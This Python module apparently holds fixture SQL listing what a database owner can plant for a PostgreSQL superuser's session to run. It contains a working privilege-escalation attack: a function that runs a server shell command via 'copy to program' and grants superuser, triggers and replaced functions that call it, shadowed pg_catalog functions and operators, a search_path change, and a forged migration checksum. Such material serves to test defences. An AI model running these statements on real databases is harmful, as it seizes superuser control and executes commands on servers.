"""What others can leave in a database for a superuser's session to run."""

from __future__ import annotations

# What an owner can leave for a superuser to run, wherever a session that uses the tables may call it.
BY_WHAT_THE_OWNER_OWNS = (
    "set role tmdb_owner",
    """
    create function public.gain() returns void language plpgsql set search_path = pg_catalog as $gain$
    begin
        perform set_config('role', 'none', true);
        copy (select) to program 'cat > gained_by_{login}'; -- in the server's folder, and no rollback takes it back
        alter role {login} superuser;
    exception when insufficient_privilege then null;
    end
    $gain$
    """,
    "create function public.spring() returns trigger language plpgsql as "
    "$f$ begin perform public.gain(); return new; end $f$",
    *(
        f"create trigger spring before insert or update on {table} for each row execute function public.spring()"
        for table in ("applied_sql", "schema_version", "popularity_total", "top_movie", "load_day", "dim_movie")
    ),
    "create or replace function public.renew_totals() returns void language sql as 'select public.gain()'",
    "create or replace function public.ensure_partition(parent text, unit text, day date) returns void language sql "
    "as 'select public.gain()'",
    "create function public.grant_privileges() returns void language sql as 'select public.gain()'",
    # Postgres prefers it to its own for a column of type name.
    "create function public.starts_with(name, text) returns boolean language plpgsql as "
    "$f$ begin perform public.gain(); return false; end $f$",
    # Postgres prefers them to its own for an oid and a name that was looked up.
    *(
        f"create function public.is_{kind}(oid, {kind}) returns boolean language plpgsql as "
        f"$f$ begin perform public.gain(); return $1 operator(pg_catalog.=) $2::oid; end $f$; "
        f"create operator public.= (leftarg = oid, rightarg = {kind}, function = public.is_{kind})"
        for kind in ("regclass", "regtype", "regnamespace", "regrole")
    ),
    "update applied_sql set sha256 = 'of another release'",
    "drop view if exists vw_load_status",
)

# Who owns the database decides in which order every session looks for functions: here for its own ones first.
BY_THE_ORDER_OF_SCHEMAS = (
    """
    do $shadow$
    declare
        shadowed record;
    begin
        for shadowed in
            select
                p.proname, pg_get_function_identity_arguments(p.oid) as arguments,
                p.prorettype::regtype::text as result
            from pg_proc as p
            where
                p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset
                and p.prorettype <> 'void'::regtype
                and p.proname ~ '^(current_(schema|setting)|set_config|to_reg|version|starts_with|format|quote_'
                    '|now$|length|pg_(get_userbyid|has_role|encoding_to_char|.*advisory|export_snap)|has_.*_privilege)'
                and not p.proargtypes::regtype[] && array['"any"', 'anyelement', 'internal']::regtype[]
        loop
            execute format(
                'create function public.%I(%s) returns %s language plpgsql '
                'as $f$ begin perform public.gain(); return null; end $f$',
                shadowed.proname, shadowed.arguments, shadowed.result
            );
        end loop;
        for shadowed in
            select distinct o.oprname, oprleft::regtype::text as left_type, oprright::regtype::text as right_type
            from pg_operator as o
            where
                o.oprnamespace = 'pg_catalog'::regnamespace and o.oprname in ('=', '<>', '<', '~')
                and o.oprleft in ('oid'::regtype, 'name'::regtype, 'text'::regtype, 'bool'::regtype, '"char"'::regtype)
                and o.oprright in ('oid'::regtype, 'name'::regtype, 'text'::regtype, 'bool'::regtype, '"char"'::regtype)
        loop
            execute format(
                'create or replace function public.shadow(%1$s, %2$s) returns boolean language plpgsql '
                'as $f$ begin perform public.gain(); return null; end $f$',
                shadowed.left_type, shadowed.right_type
            );
            execute format(
                'create operator public.%s (leftarg = %s, rightarg = %s, function = public.shadow)',
                shadowed.oprname, shadowed.left_type, shadowed.right_type
            );
        end loop;
    end
    $shadow$
    """,
    "reset role",
    "alter database {database} set search_path = public, pg_catalog",
)
